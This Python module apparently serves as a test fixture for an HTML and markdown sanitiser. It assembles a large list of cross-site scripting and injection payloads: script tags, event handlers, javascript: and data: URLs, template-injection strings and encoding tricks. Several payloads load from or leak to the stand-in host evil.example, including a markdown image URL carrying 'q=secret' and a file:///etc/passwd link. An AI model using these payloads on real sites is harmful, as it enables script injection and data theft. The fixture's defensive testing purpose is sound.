"""What a service in hostile hands would send: code, or a request, to whoever believes it."""

from itertools import product

AWAY = "https://evil.example"
"""Nothing answers there; the browser must not even ask."""

RUN = "window.pwned=(window.pwned||0)+1"
_MARKUP = (
    f"<script>{RUN}</script>",
    f"<script src={AWAY}/s.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}/i.png>",
    f"<img srcset='{AWAY}/i2.png 1x'>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href={AWAY}/svg.png /></svg>",
    f"<svg><use href='{AWAY}/u.svg#a'></use></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe src={AWAY}/frame></iframe>",
    f"<object data={AWAY}/o></object>",
    f"<embed src={AWAY}/e>",
    f"<video src=x onerror={RUN}></video>",
    f"<video poster={AWAY}/poster.png></video>",
    f"<audio src={AWAY}/a.mp3 autoplay></audio>",
    f"<source src={AWAY}/s onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"<a href={AWAY}/click ping={AWAY}/ping>x</a>",
    f"<form action={AWAY}/f><button>x</button></form>",
    f"<link rel=stylesheet href={AWAY}/c.css>",
    f"<link rel=prefetch href={AWAY}/prefetch>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/refresh'>",
    f"<base href={AWAY}/>",
    f"<style>@import url({AWAY}/i.css);</style>",
    f"<style>*{{background:url({AWAY}/bg.png)}}</style>",
    f"<p style='background:url({AWAY}/bg2.png)'>x</p>",
    f"<template shadowrootmode=open><img src={AWAY}/t.png></template>",
    f"<body onpageshow={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<x onanimationstart={RUN} style='animation:beat 1s'>x</x>",
)
_BREAKS = ("", '">', "'>", "</span>", "</script>", "</style>", "-->", "]]>", "</textarea></title>")
"""What may end the place the text stands in."""
_SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"javascript:/*https://*/{RUN}",
    f"https:javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"vbscript:{RUN}",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "view-source:https://evil.example/",
    "filesystem:https://evil.example/temporary/x",
    "intent://evil.example#Intent;scheme=https;end",
    "//evil.example/relative",
    "\\\\evil.example\\share",
)
_MARKDOWN = (
    "![x]({0})",
    "[![x]({0})]({0})",
    "[x]({0})",
    "![x][1]\n\n[1]: {0}",
    "[x][1]\n\n[1]: {0} 'title'",
    "[x]\n\n[x]: <{0}>",
    "<{0}>",
    "{0}",
    '<img alt="![x]({0})">',
    "[x](<{0}> 'onmouseover=1')",
    "```html\n<img src={0}>\n```",
)
_TEMPLATES = (
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "<%= {0} %>",
    "#{{{0}}}",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "%3Cscript%3E{0}%3C/script%3E",
    "\u202e<script>{0}</script>\u202c",
    "\ufeff<script>{0}</script>",
    "<scr\x00ipt>{0}</script>",
    "<<script>script>{0}<</script>/script>",
    "\u2028{0}\u2029",
    "data: x\n\nevent: answer\ndata: {{}}\n\n{0}",
    "{{\"__proto__\": {{\"onclick\": \"{0}\"}}}}",
)  # fmt: skip

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(end + markup for end, markup in product(_BREAKS, _MARKUP)),
            *_SCHEMES,
            *(form.format(f"{AWAY}/md?q=secret") for form in _MARKDOWN),
            *(form.format(url) for form, url in product(_MARKDOWN, _SCHEMES)),
            *(form.format(RUN) for form in _TEMPLATES),
        )
    )
)
